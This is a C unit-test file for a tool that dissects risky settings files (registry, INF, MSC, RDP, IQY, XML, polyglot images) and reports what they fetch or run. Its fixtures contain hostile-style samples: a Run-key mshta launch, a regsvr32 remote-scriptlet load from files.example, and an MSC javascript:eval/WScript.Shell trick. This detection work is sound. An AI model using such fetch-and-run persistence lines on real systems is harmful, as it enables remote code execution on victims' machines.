/* test_settings.c - files of settings that act when they are opened, XML and plain texts: where
 * they lead, what they write and what they would start is told. */
#include "open.h"

#include <stdlib.h>

static struct dissect *open_text(
        dissect_opener *opener, enum dissect_format format, const char *name, const char *text)
{
    return open_bytes(opener, format, name, hn_bytes_of(text, strlen(text)), NULL);
}

#define RDP                                                                             \
    "screen mode id:i:2\r\nfull address:s:gate.example:443\r\ndrivestoredirect:s:*\r\n" \
    "remoteapplicationprogram:s:||Check\r\nusername:s:\r\n"
#define IQY "WEB\r\n1\r\nhttp://files.example/a?b=1\r\n\r\nSelection=EntirePage\r\n"
#define REG                                                                         \
    "Windows Registry Editor Version 5.00\r\n\r\n"                                  \
    "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"    \
    "\"Up\\\"d\"=\"mshta \\\"http://files.example/a\\\"\"\r\n@=\"C:\\\\b.exe\"\r\n" \
    "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Corp]\r\n\"Level\"=dword:00000001\r\n"          \
    "\"Home\"=\"https://corp.example/\"\r\n"
#define INF                                                                                    \
    "[version]\r\nSignature=$chicago$\r\n[DefaultInstall_SingleUser]\r\nUnRegisterOCXs=Un\r\n" \
    "RunPreSetupCommands=Pre\r\n[Pre]\r\ncmd /c start a.exe\r\n[Un]\r\n"                       \
    "%11%\\scrobj.dll,NI,http://files.example/a.sct\r\n"
#define MSC                                                                                    \
    "<?xml version=\"1.0\"?><MMC_ConsoleFile><StringTables><String ID=\"1\">"                  \
    "res://apds.dll/redirect.html?target=javascript:eval(x)</String><String ID=\"2\">"         \
    "var x=new ActiveXObject(&quot;WScript.Shell&quot;)</String><String ID=\"3\">Console Root" \
    "</String></StringTables><Task Type=\"CommandLine\" Command=\"cmd.exe\"><CommandLine "     \
    "Params=\"/c echo 1\"/></Task></MMC_ConsoleFile>"

static void remote_desktop_names_its_server(void **state)
{
    struct dissect *dissect = open_text(container_open_rdp, DISSECT_RDP, "a.rdp", RDP);

    (void)state;
    check_text(fact_of(dissect, 0, "rdp_address", 0), "gate.example:443");
    check_text(fact_of(dissect, 0, "rdp_drives", 0), "*");
    check_text(fact_of(dissect, 0, "rdp_program", 0), "||Check");
    assert_null(fact_of(dissect, 0, "rdp_user", 0).ptr); /* empty */
    assert_true(has_text(dissect, 0, "gate.example:443"));
    dissect_free(dissect);
}

static void web_queries_name_their_address(void **state)
{
    struct dissect *dissect = open_text(container_open_iqy, DISSECT_IQY, "a.iqy", IQY);

    (void)state;
    check_text(fact_of(dissect, 0, "external_url", 0), "http://files.example/a?b=1");
    check_text(fact_of(dissect, 0, "external_relation", 0), "web_query http://files.example/a?b=1");
    assert_true(has_text(dissect, 0, "http://files.example/a?b=1"));
    dissect_free(dissect);
}

/* Each value is an act in the shape of the log; what runs at sign-in is a command as well. */
static void registry_files_write_values(void **state)
{
    static const char *const expected[][2] = {
        { "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Up\"d",
                "mshta \"http://files.example/a\"" },
        { "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\(Default)", "C:\\b.exe" },
        { "HKLM\\SOFTWARE\\Corp\\Level", "dword:00000001" },
        { "HKLM\\SOFTWARE\\Corp\\Home", "https://corp.example/" },
    };
    struct dissect *dissect = open_text(container_open_reg, DISSECT_REG, "a.reg", REG);
    const struct dissect_act *act = dissect_get(dissect, 0)->acts;

    (void)state;
    for (size_t i = 0; i < 4; i++, act = act->next) {
        assert_non_null(act);
        assert_int_equal(act->kind, SCRIPT_ACT_REGISTRY_WRITE);
        check_text(act->fields[0].value, expected[i][0]);
        check_text(act->fields[1].value, expected[i][1]);
    }
    assert_null(act);
    check_child(dissect, "command", "mshta \"http://files.example/a\"");
    assert_int_equal(dissect_count(dissect), 3);
    assert_true(has_text(dissect, 0, "https://corp.example/"));
    dissect_free(dissect);
}

/* A text as hex digits, over several lines. */
static void registry_texts_in_hex_are_read(void **state)
{
    struct dissect *dissect = open_text(container_open_reg, DISSECT_REG, "a.reg",
            "REGEDIT4\r\n[HKEY_USERS\\Run]\r\n\"a\"=hex(2):61,00,\\\r\n  62,00,00,00\r\n"
            "\"b\"=hex:01,02\r\n");
    const struct dissect_act *act = dissect_get(dissect, 0)->acts;

    (void)state;
    assert_non_null(act);
    check_text(act->fields[0].value, "HKU\\Run\\a");
    check_text(act->fields[1].value, "ab");
    assert_non_null(act->next);
    check_text(act->next->fields[1].value, "hex:01,02");
    dissect_free(dissect);
}

/* What stands behind a picture is an archive of its own. */
static void archives_behind_pictures_come_out(void **state)
{
    static const char picture[] =
            "\xFF\xD8\xFF\xE0 picture PK\3\4 zip PK\5\6\0\0\0\0\1\0\1\0\1\0\0\0"
            "\x08\0\0\0\0\0";
    struct dissect *dissect = open_bytes(container_open_picture, DISSECT_IMAGE, "a.jpg",
            hn_bytes_of(picture, sizeof picture - 1), NULL);

    (void)state;
    assert_int_equal(dissect_count(dissect), 2);
    assert_int_equal(dissect_get(dissect, 1)->offset, 13);
    assert_memory_equal(dissect_get(dissect, 1)->data.ptr, "PK\3\4 zip ", 9);
    dissect_free(dissect);
    dissect = open_text(container_open_picture, DISSECT_IMAGE, "a.jpg", "\xFF\xD8\xFF\xE0 picture");
    assert_int_equal(dissect_count(dissect), 1);
    dissect_free(dissect);
}

static void set_up_information_starts_and_registers(void **state)
{
    struct dissect *dissect = open_text(container_open_inf, DISSECT_INF, "a.inf", INF);

    (void)state;
    assert_int_equal(dissect_count(dissect), 3);
    check_text(hn_bytes_as_text(dissect_get(dissect, 1)->data), "cmd /c start a.exe");
    check_text(hn_bytes_as_text(dissect_get(dissect, 2)->data),
            "regsvr32.exe /s /n /i:http://files.example/a.sct scrobj.dll");
    dissect_free(dissect);
}

/* A console's script and task come out, its names do not. */
static void consoles_give_their_scripts(void **state)
{
    struct dissect *dissect = open_text(container_open_xml, DISSECT_MSC, "a.msc", MSC);

    (void)state;
    check_text(fact_of(dissect, 0, "console_redirect", 0),
            "res://apds.dll/redirect.html?target=javascript:eval(x)");
    assert_int_equal(dissect_count(dissect), 3);
    check_child(dissect, "script", "var x=new ActiveXObject(\"WScript.Shell\")");
    check_child(dissect, "command", "cmd.exe /c echo 1");
    dissect_free(dissect);
}

struct xml_case {
    const char *xml;
    const char *child; /* NULL: none */
    enum dissect_format format;
    const char *text; /* NULL: none looked for */
};

static void xml_says_what_it_starts(void **state)
{
    static const struct xml_case cases[] = {
        { "<s:stylesheet xmlns:s=\"http://www.w3.org/1999/XSL/Transform\"><m:script "
          "language=\"VBScript\"><![CDATA[x = 1 & 2]]></m:script></s:stylesheet>",
                "x = 1 & 2", DISSECT_VBSCRIPT, NULL },
        { "<s:stylesheet><m:script>var a=1;</m:script></s:stylesheet>", "var a=1;", DISSECT_JSCRIPT,
                NULL },
        { "<Task><Actions><Exec><Command>cmd.exe</Command><Arguments>/c &quot;a b&quot;"
          "</Arguments></Exec></Actions></Task>",
                "cmd.exe /c \"a b\"", DISSECT_COMMAND, NULL },
        { "<Configuration><LogonCommand><Command>explorer</Command></LogonCommand>"
          "</Configuration>",
                "explorer", DISSECT_COMMAND, NULL },
        { "<Project><Target><Exec Command=\"a b\"/></Target></Project>", "cmd.exe /c a b",
                DISSECT_COMMAND, NULL },
        { "<Settings><Command>not started</Command></Settings>", NULL, DISSECT_UNKNOWN, NULL },
        { "<a xmlns=\"http://ns.example/\" b=\"https://files.example/x?y&amp;z\"/>", NULL,
                DISSECT_UNKNOWN, "https://files.example/x?y&z\n" },
        { "<a>see http://files.example/1<b", NULL, DISSECT_UNKNOWN,
                "see http://files.example/1\n" },
    };

    (void)state;
    for (size_t i = 0; i < HN_COUNT_OF(cases); i++) {
        struct dissect *dissect = open_text(container_open_xml, DISSECT_XML, "a.xml", cases[i].xml);

        assert_int_equal(dissect_count(dissect), cases[i].child != NULL ? 2 : 1);
        if (cases[i].child != NULL) {
            check_text(hn_bytes_as_text(dissect_get(dissect, 1)->data), cases[i].child);
            assert_int_equal(dissect_get(dissect, 1)->format, cases[i].format);
        }
        if (cases[i].text != NULL)
            assert_true(has_text(dissect, 0, cases[i].text));
        dissect_free(dissect);
    }
}

/* The sheet that a reader fetches; programs in source are said to be there. */
static void xml_says_what_it_fetches(void **state)
{
    struct dissect *dissect = open_text(container_open_xml, DISSECT_XML, "a.xml",
            "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://a.example/x'?><r>"
            "<Code>class A { }</Code></r>");

    (void)state;
    check_text(fact_of(dissect, 0, "style_sheet", 0), "http://a.example/x");
    assert_non_null(note_of(dissect, 0, DISSECT_NOTE_UNSUPPORTED).ptr);
    dissect_free(dissect);
}

/* Whatever it is written in; a script that nobody evaluates is no plain text. */
static void texts_are_read(void **state)
{
    struct dissect *dissect = open_bytes(
            container_open_text, DISSECT_TEXT, "a.txt", hn_bytes_of("\xFF\xFEh\0i\0", 6), NULL);

    (void)state;
    assert_true(has_text(dissect, 0, "hi"));
    assert_null(dissect_get(dissect, 0)->notes);
    dissect_free(dissect);
    dissect = open_text(container_open_text, DISSECT_TEXT, "a.txt", "\x83\x65\x83\x58");
    assert_true(has_text(dissect, 0, "\xE3\x83\x86\xE3\x82\xB9")); /* Shift_JIS */
    dissect_free(dissect);
    dissect = open_text(container_open_text, DISSECT_TEXT, "a.py", "import os");
    assert_non_null(note_of(dissect, 0, DISSECT_NOTE_UNSUPPORTED).ptr);
    dissect_free(dissect);
}

static const struct {
    dissect_opener *open;
    enum dissect_format format;
    const char *text;
} all[] = { { container_open_rdp, DISSECT_RDP, RDP }, { container_open_iqy, DISSECT_IQY, IQY },
    { container_open_reg, DISSECT_REG, REG }, { container_open_inf, DISSECT_INF, INF },
    { container_open_xml, DISSECT_MSC, MSC },
    { container_open_picture, DISSECT_IMAGE, "GIF89a PK\003\004 x Rar!\x1A\x07 y" },
    { container_open_text, DISSECT_TEXT, REG } };

static void every_truncation_is_survived(void **state)
{
    (void)state;
    for (size_t i = 0; i < HN_COUNT_OF(all); i++) {
        for (size_t len = 0; len < strlen(all[i].text); len++) {
            uint8_t *copy = malloc(len + 1);

            assert_non_null(copy);
            memcpy(copy, all[i].text, len);
            dissect_free(open_bytes(all[i].open, all[i].format, "a", hn_bytes_of(copy, len), NULL));
            free(copy);
        }
    }
}

static void every_allocation_may_fail(void **state)
{
    (void)state;
    for (size_t i = 0; i < HN_COUNT_OF(all); i++)
        open_without_memory(
                all[i].open, all[i].format, hn_bytes_of(all[i].text, strlen(all[i].text)));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(remote_desktop_names_its_server),
        cmocka_unit_test(web_queries_name_their_address),
        cmocka_unit_test(registry_files_write_values),
        cmocka_unit_test(registry_texts_in_hex_are_read),
        cmocka_unit_test(archives_behind_pictures_come_out),
        cmocka_unit_test(set_up_information_starts_and_registers),
        cmocka_unit_test(consoles_give_their_scripts),
        cmocka_unit_test(xml_says_what_it_starts),
        cmocka_unit_test(xml_says_what_it_fetches),
        cmocka_unit_test(texts_are_read),
        cmocka_unit_test(every_truncation_is_survived),
        cmocka_unit_test(every_allocation_may_fail),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
